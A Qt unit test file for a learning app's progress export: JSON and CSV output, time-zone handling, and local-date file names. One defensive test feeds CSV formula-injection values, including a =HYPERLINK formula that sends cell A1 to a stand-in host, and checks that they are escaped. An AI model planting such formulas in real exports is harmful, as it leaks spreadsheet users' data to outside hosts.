// The progress store's exports: JSON and CSV of the whole event log, cells a spreadsheet would run as
// formulas made text, and the export file named by the learner's local date.
#include "progressstorecase.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTimeZone>

class TestProgressExport : public ProgressStoreCase
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { pinTimeZone(); }
    void init() { openStore(); }
    void cleanup() { closeStore(); }

    void exportJsonAndCsv()
    {
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("a"), 2, local(3, 29, 1, 30)));
        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("m1"), QStringLiteral("quiz"), local(3, 29, 4));
        const QString response = QStringLiteral("{\"text\":\"ja, \\\"kanske\\\"\\nnej\"}");
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q1"), 0.5, response, local(3, 29, 4, 1)));
        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 64, false, local(3, 29, 5)));

        const QString jsonPath = m_dir->filePath(QStringLiteral("export.json"));
        QVERIFY(m_store->exportJson(jsonPath));
        QFile jsonFile(jsonPath);
        QVERIFY(jsonFile.open(QIODevice::ReadOnly));
        QJsonParseError error{};
        const QJsonObject root = QJsonDocument::fromJson(jsonFile.readAll(), &error).object();
        QCOMPARE(error.error, QJsonParseError::NoError);
        QCOMPARE(root.value(QStringLiteral("format")).toString(), QStringLiteral("pausa-progress"));
        QCOMPARE(root.value(QStringLiteral("schemaVersion")).toInt(), ProgressStore::schemaVersion());
        const QJsonArray events = root.value(QStringLiteral("events")).toArray();
        QCOMPARE(events.size(), 4);
        const QJsonObject card = events[0].toObject();
        QCOMPARE(card.value(QStringLiteral("kind")).toString(), QStringLiteral("card_reached"));
        QCOMPARE(card.value(QStringLiteral("at")).toString(), QStringLiteral("2026-03-29T00:30:00.000Z")); // CET
        QCOMPARE(card.value(QStringLiteral("localDay")).toString(), QStringLiteral("2026-03-29"));
        QCOMPARE(card.value(QStringLiteral("cardIndex")).toInt(), 2);
        QVERIFY(!card.contains(QStringLiteral("attemptId")));
        const QJsonObject answer = events[2].toObject();
        QCOMPARE(answer.value(QStringLiteral("at")).toString(), QStringLiteral("2026-03-29T02:01:00.000Z")); // CEST
        QCOMPARE(answer.value(QStringLiteral("attemptId")).toInteger(), id);
        QCOMPARE(answer.value(QStringLiteral("itemId")).toString(), QStringLiteral("q1"));
        QCOMPARE(answer.value(QStringLiteral("value")).toDouble(), 0.5);
        QCOMPARE(answer.value(QStringLiteral("response")).toString(), response);
        QCOMPARE(events[3].toObject().value(QStringLiteral("flag")).toBool(true), false);
        QCOMPARE(events[3].toObject().value(QStringLiteral("seconds")).toInt(), 64);

        const QString csvPath = m_dir->filePath(QStringLiteral("export.csv"));
        QVERIFY(m_store->exportCsv(csvPath));
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        const QByteArray csv = csvFile.readAll();
        const QList<QByteArray> lines = csv.split('\n');
        QCOMPARE(lines[0], QByteArray("id,at_utc,local_day,kind,course_id,module_id,item_id,attempt_id,card_index,"
                                      "seconds,value,flag,response\r"));
        QCOMPARE(lines[1], QByteArray("1,2026-03-29T00:30:00.000Z,2026-03-29,card_reached,kurs,m1,a,,2,,,,\r"));
        const QByteArray answerRow = QByteArray(",quiz_answer,kurs,m1,q1,") + QByteArray::number(id)
            + ",,,0.5,,\"{\"\"text\"\":\"\"ja, \\\"\"kanske\\\"\"\\nnej\"\"}\"\r\n";
        QVERIFY2(csv.contains(answerRow), csv.constData());
        QVERIFY(csv.endsWith(",breathing,,,box,,,64,,0,\r\n"));
    }

    // A quiz title such as =HYPERLINK(…) reaches the CSV as a question id; a spreadsheet must show it as
    // text, not run it. Number cells are never changed.
    void csvCellsAreNeverFormulas()
    {
        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("+m1"), QStringLiteral("quiz"), local(3, 29, 4));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("=HYPERLINK(\"https://x.test/?\"&A1;\"klicka\")"), 0.5,
                                          QStringLiteral("@SUM(1)"), local(3, 29, 4, 1)));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("-2+3"), 1, QStringLiteral("{}"), local(3, 29, 4, 2)));
        const QString csvPath = m_dir->filePath(QStringLiteral("formulas.csv"));
        QVERIFY(m_store->exportCsv(csvPath));
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        const QByteArray csv = csvFile.readAll();
        const QByteArray first = QByteArray(",quiz_answer,kurs,'+m1,\"'=HYPERLINK(\"\"https://x.test/?\"\"&A1;\"\"klicka\"\")\",")
            + QByteArray::number(id) + ",,,0.5,,'@SUM(1)\r\n";
        QVERIFY2(csv.contains(first), csv.constData());
        const QByteArray second = ",quiz_answer,kurs,'+m1,'-2+3," + QByteArray::number(id) + ",,,1,,{}\r\n";
        QVERIFY2(csv.contains(second), csv.constData());
    }

    // Named by the learner's calendar: 00:30 in Stockholm is still the day before in UTC, and the
    // name says the Stockholm date (it said the UTC one, the day before, until 01:00 / 02:00).
    void exportFileNameIsTheLocalDate()
    {
        const QDateTime winterNight(QDate(2026, 12, 1), QTime(23, 30), QTimeZone::utc()); // 00:30 CET
        QCOMPARE(ProgressStore::exportFileName(winterNight, QStringLiteral("json")),
                 QStringLiteral("pausa-progress-2026-12-02.json"));
        const QDateTime summerNight(QDate(2026, 7, 1), QTime(22, 15), QTimeZone::utc()); // 00:15 CEST
        QCOMPARE(ProgressStore::exportFileName(summerNight, QStringLiteral("csv")),
                 QStringLiteral("pausa-progress-2026-07-02.csv"));
        const QDateTime evening(QDate(2026, 12, 1), QTime(21, 0), QTimeZone::utc()); // 22:00 CET: same day
        QCOMPARE(ProgressStore::exportFileName(evening, QStringLiteral("json")),
                 QStringLiteral("pausa-progress-2026-12-01.json"));
    }
};

QTEST_GUILESS_MAIN(TestProgressExport)
#include "tst_progressexport.moc"
